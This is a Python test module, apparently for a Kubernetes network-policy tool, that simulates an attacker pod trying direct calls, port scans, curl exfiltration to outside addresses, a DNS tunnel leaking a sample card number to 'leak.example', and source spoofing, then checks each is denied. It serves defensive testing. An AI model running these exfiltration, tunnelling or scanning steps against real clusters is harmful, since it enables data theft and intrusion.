"""What the attacker tries, and the words for why it fails."""

import json
import os

from node import replace_file, wait_until
from step import ATTACKER, denied, expect, flow_line, pod_of, python, rule_of, step

OUTSIDE4, OUTSIDE6 = "198.19.200.10", "fd00:5a11:0:2::10"
RESOLVER = "198.19.200.53"
MODEL = "model-server.inference.svc.cluster.local"
DENY = "attacker/default-deny-all"

OPENED = """apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: open-egress, namespace: attacker}
spec:
  podSelector: {}
  policyTypes: [Egress]
  egress: [{}]
"""


def curl(node, url):
    done = node.execute(ATTACKER, "curl", "-sS", "-g", "-m", "1.5", url, check=False)
    return done.returncode, (done.stderr or done.stdout).strip()


def summary_of(done):
    lines = done.stdout.splitlines()
    expect(lines, f"nothing was printed: {done.stderr.strip()}")
    return json.loads(lines[-1])


@step("The attacker calls the model server directly",
      "the connection is dropped; the flow names the policy and what was missing")
def direct_call(node):
    model, _ = node.pod("inference", "model-server")
    status, said = curl(node, f"http://{MODEL}:8080/v1/models")
    expect(status == 28, f"curl ended with {status} instead of 28 (timeout): {said}")
    flow = denied(node, ATTACKER, model, 8080)
    expect(DENY in flow["egress"]["isolatedBy"], flow_line(flow))
    return f"curl: {said}\n{flow_line(flow)}"


@step("The attacker scans ports",
      "no port of the model server, cache or database answers; each attempt is seen")
def port_scan(node):
    lines = []
    for namespace, app, ports in (("inference", "model-server", "8078-8082"),
                                  ("data", "redis", "6379"), ("data", "vector-db", "5432")):
        pod, addresses = node.pod(namespace, app)
        for address in addresses:
            done = node.execute(ATTACKER, *python("attack.py", "scan", address, ports), check=False)
            found = summary_of(done)
            expect(set(found) == {"summary", "silent"}, f"{pod}: {found}")
            first, _, last = ports.partition("-")
            for port in range(int(first), int(last or first) + 1):
                flow = denied(node, ATTACKER, address, port)
            lines.append(f"{pod} {address}: ports {ports} silent")
    return "\n".join([*lines, flow_line(flow)])


@step("The attacker carries data out of the cluster",
      "neither the IPv4 nor the IPv6 connection to an address outside passes")
def exfiltration(node):
    lines = []
    for address, url in ((OUTSIDE4, f"http://{OUTSIDE4}:443/"), (OUTSIDE6, f"http://[{OUTSIDE6}]:443/")):
        status, said = curl(node, url)
        expect(status == 28, f"curl {url} ended with {status} instead of 28 (timeout): {said}")
        flow = denied(node, ATTACKER, address, 443)
        expect(DENY in flow["egress"]["isolatedBy"], flow_line(flow))
        lines.append(flow_line(flow))
    return "\n".join(lines)


@step("The attacker tunnels through DNS",
      "the cluster's own DNS answers, as allowed; a resolver outside hears nothing, by UDP or TCP")
def dns_tunnel(node):
    inside = node.execute(ATTACKER, "getent", "ahostsv4", MODEL).stdout.split()[0]
    done = node.execute(ATTACKER, *python("attack.py", "tunnel", RESOLVER, "leak.example",
                                          "customer 4711 pays with 4111 1111 1111 1111"), check=False)
    found = summary_of(done)
    expect(found["answered"] == 0 and found["tcp"] == "silent", f"{found}")
    lines = [f"{MODEL} is {inside}", f"{found['names']} names asked outside, none answered"]
    for protocol in ("UDP", "TCP"):
        flow = denied(node, ATTACKER, RESOLVER, 53, protocol)
        expect(DENY in flow["egress"]["isolatedBy"], flow_line(flow))
        lines.append(flow_line(flow))
    return "\n".join(lines)


@step("The owner of the attacker's namespace opens its egress",
      "now the outside is reached (so it was the policy that kept it away), but the model server\n"
      "still refuses: its own side decides too. Then the file goes, and all is shut again")
def opened_egress(node):
    model, _ = node.pod("inference", "model-server")
    path = os.path.join(node.manifests, "attacker-opens-egress.yaml")
    knock = python("attack.py", "scan", OUTSIDE4, "443")

    def reached():
        return "open" in summary_of(node.execute(ATTACKER, *knock, check=False))
    replace_file(path, OPENED)
    try:
        wait_until(f"{OUTSIDE4}:443 answers", reached, 10)
        status, said = curl(node, f"http://{MODEL}:8080/v1/models")
        expect(status == 28, f"curl ended with {status} instead of 28 (timeout): {said}")
        flow = denied(node, ATTACKER, model, 8080, since="3s")
        expect(flow["egress"]["verdict"] == "allow" and flow["ingress"]["verdict"] == "deny",
               flow_line(flow))
        expect("nearest" in flow["ingress"], f"no nearest rule is named: {flow_line(flow)}")
    finally:
        os.unlink(path)
    wait_until(f"{OUTSIDE4}:443 is silent again", lambda: not reached(), 10)
    return f"{OUTSIDE4}:443 answered\n{flow_line(flow)}\nwithout the file: silent again"


@step("The attacker forges the gateway's address",
      "packets whose source is not the pod's own are dropped, IPv4 and IPv6")
def spoofed(node):
    gateway, sources = node.pod("api-gateway", "gateway")
    model, targets = node.pod("inference", "model-server")
    lines = []
    for source in sources:
        target = next(t for t in targets if (":" in t) == (":" in source))
        node.execute(ATTACKER, *python("attack.py", "spoof", source, target, 8080))

        def find():
            for flow in node.flows("--verdict", "denied", "--since", "10s"):
                if flow["source"]["address"] == source and flow["reason"] == "spoofed source":
                    return flow
            return None
        flow = wait_until(f"a flow denied because {source} was forged", find, 5)
        lines.append(f"{source} of {gateway}, sent by {ATTACKER} -> {model}: {flow['reason']}"
                     f" (x{flow.get('repeats', 1)})")
    return "\n".join(lines)


@step("explain an allowed and a denied pair",
      "a completion is allowed, by rule 0 of inference/inference-ingress and rule 0 of\n"
      "inference/inference-authz (exit 0); the attacker is denied by default (exit 1)")
def explain(node):
    gateway, _ = node.pod("api-gateway", "gateway")
    service = "svc/inference/model-server:8080"
    request = ["--method", "POST", "--path", "/v1/completions"]
    allowed = node.run("explain", *request, gateway, service, check=False)
    refused = node.run("explain", ATTACKER, service, check=False)
    expect(allowed.returncode == 0 and "inference/inference-ingress" in allowed.stdout
           and "inference/inference-authz" in allowed.stdout,
           f"exit {allowed.returncode}: {allowed.stdout}{allowed.stderr}")
    expect(refused.returncode == 1 and "default-deny-all" in refused.stdout,
           f"exit {refused.returncode}: {refused.stdout}{refused.stderr}")
    return (f"$ sallyport explain {' '.join(request)} {gateway} {service}\n{allowed.stdout.rstrip()}\n"
            f"$ sallyport explain {ATTACKER} {service}\n{refused.stdout.rstrip()}")


STEPS = [direct_call, port_scan, exfiltration, dns_tunnel, opened_egress, spoofed, explain]
